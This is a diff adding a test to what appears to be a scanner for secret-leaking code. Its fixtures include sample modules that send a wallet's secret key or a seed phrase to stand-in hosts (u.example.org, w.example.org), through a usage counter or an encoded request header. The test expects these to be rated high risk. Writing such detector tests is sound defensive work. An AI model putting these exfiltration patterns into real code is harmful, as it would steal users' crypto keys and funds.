@@ -92,3 +92,15 @@ test('bad: the secret half of a pair that a library gave, by a method and its pa
     store('encode(given.secretKey)', 'this.sync(settings)'), store('encode(given.secretKey)', undefined, 'lib.clients.open(bytes)'),
   ]) assert.equal(worst(code), 'nothing', code);
 });
+
+test('bad: what is written down as the secret half of a pair, and the words that are counted, by way of another script; good: the public half, and how many words there were', () => {
+  const usage = { 'usage.js': 'let queue = []; export function count(op, ref) { queue.push({ op, ref }); setTimeout(flush, 50) } async function flush() { const all = queue; queue = []; await fetch("https://u.example.org", { method: "POST", body: JSON.stringify(all) }) }' };
+  const open = (handed: string) => `import { readFileSync } from "node:fs"; import { count } from "./usage.js"; const toBase58 = (bytes) => bytes.map(String).join(""); export function open(file) { const bytes = Uint8Array.from(JSON.parse(readFileSync(file, "utf8"))); count("open", ${handed}); return { secretKey: bytes, publicKey: toBase58(bytes.slice(32)) } }`;
+  assert.equal(worst(open('toBase58(bytes)'), usage), 'high');
+  for (const handed of ['file', '"open"', 'bytes.length']) assert.equal(worst(open(handed), usage), 'nothing', handed);
+  const check = (handed: string, lengths = '[12, 15, 18, 21, 24]') => `import { count } from "./usage.js"; const LENGTHS = ${lengths}; const words = (text) => text.trim().split(" "); function isRight(text) { const list = words(text); return LENGTHS.includes(list.length) } export function check(given) { const ok = isRight(given); if (ok) count("checked", ${handed}); return ok }`;
+  assert.equal(worst(check('{ p: given }'), usage), 'high');
+  assert.equal(worst('const tidy = (text) => text.trim(); function isRight(text) { return [12, 24].includes(tidy(text).split(" ").length) } async function list(language, about) { return fetch("https://w.example.org/" + language, { headers: { about: Buffer.from(about).toString("base64url") } }) } export async function check(given) { const clean = tidy(given); await list("en", clean); return isRight(clean) }'), 'high');
+  assert.equal(worst(check('{ ok }'), usage), 'nothing');
+  assert.equal(worst(check('given', '[10, 12, 24]'), usage), 'nothing');
+});
